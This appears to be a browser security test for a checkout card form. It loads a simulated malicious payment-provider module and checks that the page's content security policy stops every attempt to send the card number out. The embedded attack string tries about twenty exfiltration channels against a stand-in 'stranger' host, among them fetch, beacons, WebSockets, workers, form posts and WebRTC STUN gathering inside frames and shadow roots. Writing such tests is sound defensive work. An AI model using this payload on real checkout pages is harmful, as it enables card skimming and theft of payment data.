/** Tests a provider's code in the card form that sends the card to a stranger: a browser has to keep the promises of the form's policy. */
import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { page } from './browser-page.ts';
import { setUpStage, stage } from './stage.ts';

// The browser reports each attempt that it refuses.
setUpStage({ wantedRefusals: /./ });

/** Everything that reaches the stranger, also a connection without content. */
const reached: string[] = [];
const tcp = createServer((socket) => {
  reached.push('a connection');
  socket.on('error', () => undefined).end('HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n');
});
const udp = createSocket('udp4', () => reached.push('a datagram'));

beforeAll(async () => {
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
});
afterAll(() => {
  tcp.close();
  udp.close();
});

/** Runs in the card form, as a tokenizer's module does. Each attempt settles by itself, refused or not. */
const ATTACK = (stranger: string, stunPort: number) => `
  const settle = (element) => new Promise((resolve) => {
    element.onload = element.onerror = resolve;
    document.head.append(element);
  });
  const element = (name, fields) => Object.assign(document.createElement(name), fields);
  const nonce = document.querySelector('style').nonce;
  const gather = async (Connection) => {
    const connection = new Connection({ iceServers: [{ urls: 'stun:127.0.0.1:${stunPort}' }] });
    connection.createDataChannel('card');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => {
      connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve();
      connection.onconnectionstatechange = () => connection.connectionState !== 'new' && resolve();
    });
  };
  const ATTEMPTS = {
    module: () => import('${stranger}/module.js?card=4111'),
    script: () => settle(element('script', { src: '${stranger}/script.js?card=4111' })),
    scriptWithNonce: () => settle(element('script', { src: '${stranger}/nonce.js', nonce })),
    inlineScript: () => { globalThis.isInlineRun = false; document.head.append(element('script', { nonce, textContent: 'globalThis.isInlineRun = true' })); if (globalThis.isInlineRun) return fetch('${stranger}/inline'); },
    prefetch: () => settle(element('link', { rel: 'prefetch', href: '${stranger}/prefetch' })),
    modulepreload: () => settle(element('link', { rel: 'modulepreload', href: '${stranger}/modulepreload.js' })),
    preload: () => settle(element('link', { rel: 'preload', as: 'script', href: '${stranger}/preload.js' })),
    style: () => settle(element('link', { rel: 'stylesheet', href: '${stranger}/style.css' })),
    image: () => settle(element('img', { src: '${stranger}/image.png' })),
    fetched: () => fetch('${stranger}/fetch', { method: 'POST', mode: 'no-cors', body: '4111' }),
    beacon: () => navigator.sendBeacon('${stranger}/beacon', '4111'),
    events: () => new Promise((resolve) => { new EventSource('${stranger}/events').onerror = resolve; }),
    socket: () => new Promise((resolve) => { new WebSocket('${stranger.replace('http', 'ws')}').onerror = resolve; }),
    worker: () => new Promise((resolve) => {
      const code = 'fetch("${stranger}/worker").then(() => postMessage(1), () => postMessage(2))';
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = worker.onerror = resolve;
    }),
    frame: () => settle(element('iframe', { src: '${stranger}/frame' })),
    gathered: () => gather(RTCPeerConnection),
    gatheredInFrame: async () => {
      const frame = element('iframe', {});
      document.body.append(frame);
      await gather(frame.contentWindow.RTCPeerConnection);
    },
    gatheredInDocument: async () => {
      const frame = element('iframe', { srcdoc: '<script type="module" src="' + import.meta.url + '?inner"></script>' });
      document.body.append(frame);
      await new Promise((resolve) => setTimeout(resolve, 1_000));
    },
    gatheredInShadow: async () => {
      const root = document.body.attachShadow({ mode: 'closed' });
      root.append(element('iframe', { srcdoc: '<script type="module" src="' + import.meta.url + '?inner"></script>' }));
      await new Promise((resolve) => setTimeout(resolve, 1_000));
    },
    form: () => { const form = element('form', { action: '${stranger}/form', method: 'POST' }); document.body.append(form); form.submit(); },
  };
  const TRIED = 1_500;
  if (import.meta.url.endsWith('?inner')) await gather(RTCPeerConnection);
  globalThis.attempted = (async () => {
    const names = [];
    for (const [name, attempt] of Object.entries(ATTEMPTS)) {
      const late = new Promise((resolve) => setTimeout(resolve, TRIED));
      await Promise.race([late, (async () => attempt())().catch(() => undefined)]);
      names.push(name);
    }
    return names;
  })();
  export const init = () => undefined;
  export const get = async () => () => ({ tokenize: async () => { throw new Error('The card was taken.'); } });
`;

it('lets no code of a provider reach a stranger from the card form', async () => {
  const { port } = tcp.address() as { port: number };
  await page.route('**/tokenizers/**/remoteEntry.js*', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: ATTACK(`http://stranger.localhost:${port}`, udp.address().port),
    }),
  );
  await page.goto(`${stage.url}/checkout/${stage.ids.offers.find('course')}`);
  await page.check('[name=paymentMethod][value=CREDIT_CARD]');
  await page.frameLocator('iframe').locator('[autocomplete=cc-number]').fill('4111111111111111');
  const form = page.frames().find((frame) => frame.url().includes('/card-frame/'));

  await expect.poll(() => form?.evaluate(() => 'attempted' in globalThis)).toBe(true);
  const names = await form?.evaluate(() => (globalThis as unknown as { attempted: Promise<string[]> }).attempted);

  expect(names).toHaveLength(20);
  expect(reached).toEqual([]);
  await fetch(`http://127.0.0.1:${port}`);
  expect(reached).toEqual(['a connection']);
});
